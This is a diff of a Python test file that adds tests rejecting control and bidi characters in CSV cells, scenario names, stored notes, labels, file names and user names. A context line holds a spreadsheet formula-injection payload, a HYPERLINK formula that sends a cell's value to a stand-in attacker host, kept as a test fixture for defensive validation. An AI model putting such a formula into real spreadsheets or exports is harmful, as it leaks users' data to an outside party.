@@ -28,7 +28,7 @@ from model.template import (
 )
 from report import exports
 from report.template_writer import write_template
-from tests.conftest import EDITOR
+from tests.conftest import ADMIN, EDITOR
 
 xlsx_rows_bomb = functools.cache(_rows_bomb)  # built once for the tests that use it
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -145,6 +145,63 @@ def test_a_control_character_in_a_history_file_is_refused_naming_its_cell():
 def test_a_bidi_control_is_refused_too():
     assert limits.control_char("abc\u202edef") == "U+202E"
     assert limits.control_char("普通文字 ok") is None
+
+
+@pytest.mark.parametrize("ch", ["\x07", "\x1b", "\x85", "\u202a", "\u202e", "\u2066", "\u2069"])
+def test_one_rule_for_control_and_bidi_characters_in_every_user_text(ch, ds, tmp_path):
+    """The cell rule (model.limits.control_char) is the link's and the store's: a scenario
+    note with U+202E is refused as a CSV cell with it is, and nothing is stored."""
+    from store import Store
+
+    code = f"U+{ord(ch):04X}"
+    rows = _template_rows(ds)
+    rows[3][rows[0].index("source")] = f"讲话{ch}"
+    with pytest.raises(TemplateError) as err:
+        read_table(_csv(rows), "bad.csv")
+    assert err.value.problems == [f"row 4, column source: control character {code} is not allowed"]
+    # a scenario name in a compare link
+    scenario, issues = parse_scenario([("s", f"书记{ch}方案"), ("s", "保守")], ds)
+    assert scenario.compare == ("保守",)
+    assert [(i.key, i.code, i.message) for i in issues] == [
+        ("s", "control", f"s: control character {code}")
+    ]
+    # the store: a note, an author, a dataset's label and file name, an account name
+    store = Store(f"sqlite:///{tmp_path / 'one_rule.sqlite3'}")
+    refused = {
+        "note": lambda: store.save("书记方案", "fai=1", "v", actor=EDITOR, note=f"会前{ch}"),
+        "author": lambda: store.save("书记方案", "fai=1", "v", actor=EDITOR, author=f"王{ch}"),
+        "label": lambda: store.put_data("data", "a" * 12, "{}", actor=EDITOR, label=f"Q3{ch}"),
+        "file name": lambda: store.put_data(
+            "data", "a" * 12, "{}", actor=EDITOR, label="Q3", filename=f"q3{ch}.csv"
+        ),
+    }
+    for what, write in refused.items():
+        with pytest.raises(ValueError) as err:
+            write()
+        assert str(err.value) == f"{what}: must not contain control characters"
+    with pytest.raises(ValueError, match="must not contain spaces or control characters"):
+        store.add_user(f"ed{ch}1", "editor", actor=ADMIN, password="long enough 1")
+    assert store.list(include_deleted=True) == [] and store.list_data("data") == []
+    assert [a.name for a in store.list_users()] == []
+    # a note keeps its line breaks; a name, which is one line, does not
+    saved = store.save("书记方案", "fai=1", "v", actor=EDITOR, note="会前\n会后")
+    assert saved.note == "会前\n会后"
+    with pytest.raises(ValueError, match="name: must not contain control characters"):
+        store.save("书记\n方案", "fai=1", "v", actor=EDITOR)
+
+
+def test_the_one_escape_of_a_control_or_unusual_space_in_a_message(tmp_path, monkeypatch, capsys):
+    """Quoted text in a message escapes what it cannot show as Python does: U+3000 as
+    \\u3000 (the command line wrote \\x3000), a bell as \\x07, a newline as \\n."""
+    from model.fmt import one_line
+
+    assert one_line("a\u3000b\x07\n\u202e") == "a\\u3000b\\x07\\n\\u202e"
+    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'escape.sqlite3'}")
+    monkeypatch.setattr("sys.stdin", io.StringIO("long enough 1\n"))
+    assert main(["users", "add", "王\u3000编辑", "--role", "editor", "--password-stdin"]) == 0
+    assert capsys.readouterr().out == "added local user '王\\u3000编辑' as editor\n"
+    assert main(["users", "list"]) == 0
+    assert capsys.readouterr().out.splitlines()[-1].startswith("王\\u3000编辑\teditor\tlocal\t")
 
 
 # --- caps --------------------------------------------------------------------------------------
